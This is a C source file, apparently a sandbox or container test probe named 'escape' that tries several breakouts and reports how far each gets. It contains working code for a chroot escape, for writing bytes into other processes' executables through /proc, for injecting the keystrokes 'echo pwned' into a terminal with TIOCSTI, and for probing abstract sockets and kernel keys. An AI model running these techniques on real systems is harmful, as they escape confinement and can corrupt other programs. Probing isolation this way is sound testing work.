/* Tries to get out, or to reach what it should not, in one of several ways:
 *
 *     escape chroot PATH       out of a chroot; print the file at this path of the real root
 *     escape exe BYTES         write to the files that all other processes run from
 *     escape tiocsti           type into the terminal on descriptor 0
 *     escape forks COUNT       have so many children at once; print how many there were
 *     escape abstract NAME     connect to an abstract unix socket
 *     escape keys              print whether a key of this user can be found that is called ck-key
 *
 * What it prints tells how far it got. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static int
out_of_chroot(const char *path)
{
    char text[256];
    ssize_t size;
    int fd;

    mkdir("/tmp/deeper", 0755);
    if (chroot("/tmp/deeper") != 0) {
        printf("chroot: %s\n", strerror(errno));
        return 0;
    }
    for (int n = 0; n < 64; n++)
        if (chdir("..") != 0)
            break;
    if (chroot(".") != 0)
        return 1;
    fd = open(path, O_RDONLY);
    size = fd < 0 ? -1 : read(fd, text, sizeof text);
    if (size > 0)
        fwrite(text, 1, size, stdout);
    else
        printf("not there: %s\n", strerror(errno));
    return 0;
}

/* A program file cannot be written while it runs: hold it, say its name, and write when it does
 * not run any more. */
static int
over_programs(const char *bytes)
{
    char path[300], own[64], link[256];
    struct stat is, was[512];
    int held[512], count = 0;

    snprintf(own, sizeof own, "%d", getpid());
    puts(".");
    fflush(stdout);
    for (int round = 0; round < 5000; round++) {
        DIR *proc = opendir("/proc");
        for (struct dirent *entry; proc && (entry = readdir(proc));) {
            if (entry->d_name[0] < '0' || entry->d_name[0] > '9' || !strcmp(entry->d_name, own))
                continue;
            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
            int fd = open(path, O_PATH);
            ssize_t size = fd < 0 ? -1 : readlink(path, link, sizeof link - 1);
            int known = size < 0 || fstat(fd, &is) != 0 || count == 512;
            for (int n = 0; !known && n < count; n++)
                known = was[n].st_dev == is.st_dev && was[n].st_ino == is.st_ino;
            if (!known) {
                link[size] = 0;
                was[count] = is;
                held[count++] = fd;
                printf("held %s\n", strrchr(link, '/') ? strrchr(link, '/') + 1 : link);
                fflush(stdout);
            } else if (fd >= 0)
                close(fd);
        }
        if (proc)
            closedir(proc);
        for (int n = 0; n < count; n++) {
            snprintf(path, sizeof path, "/proc/self/fd/%d", held[n]);
            int fd = open(path, O_WRONLY);
            if (fd >= 0) {
                int wrote = write(fd, bytes, strlen(bytes)) > 0;
                printf("%s %d\n", wrote ? "wrote" : "opened", n);
                fflush(stdout);
                close(fd);
                if (wrote)
                    return 0;
            }
        }
        usleep(2000);
    }
    printf("%d in all\n", count);
    return 0;
}

static int
type_into_terminal(void)
{
    static const char typed[] = "echo pwned\n";

    for (const char *byte = typed; *byte; byte++)
        if (ioctl(0, TIOCSTI, byte) != 0) {
            printf("%s\n", strerror(errno));
            return 0;
        }
    puts("typed");
    return 0;
}

static int
forks(int most)
{
    int count = 0, error = 0;

    if (most > 100)
        return 2;
    while (count < most) {
        int pid = fork();
        if (pid == 0) {
            pause();
            _exit(0);
        }
        if (pid < 0) {
            error = errno;
            break;
        }
        count++;
    }
    printf("%d %s\n", count, error ? strerror(error) : "all");
    fflush(stdout);
    signal(SIGTERM, SIG_IGN);
    kill(0, SIGTERM);
    while (wait(NULL) > 0)
        ;
    return 0;
}

static int
connect_to(const char *name)
{
    struct sockaddr_un address = { .sun_family = AF_UNIX };
    int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

    strncpy(address.sun_path + 1, name, sizeof address.sun_path - 2);
    if (connect(fd, (struct sockaddr *)&address,
                offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name)) != 0)
        puts(strerror(errno));
    else
        puts("connected");
    return 0;
}

static int
find_key(void)
{
    long key = syscall(SYS_request_key, "user", "ck-key", NULL, 0);

    puts(key < 0 ? strerror(errno) : "found");
    return 0;
}

int
main(int argc, char **argv)
{
    if (argc == 3 && !strcmp(argv[1], "chroot"))
        return out_of_chroot(argv[2]);
    if (argc == 3 && !strcmp(argv[1], "exe"))
        return over_programs(argv[2]);
    if (argc == 2 && !strcmp(argv[1], "tiocsti"))
        return type_into_terminal();
    if (argc == 3 && !strcmp(argv[1], "forks"))
        return forks(atoi(argv[2]));
    if (argc == 3 && !strcmp(argv[1], "abstract"))
        return connect_to(argv[2]);
    if (argc == 2 && !strcmp(argv[1], "keys"))
        return find_key();
    return 2;
}
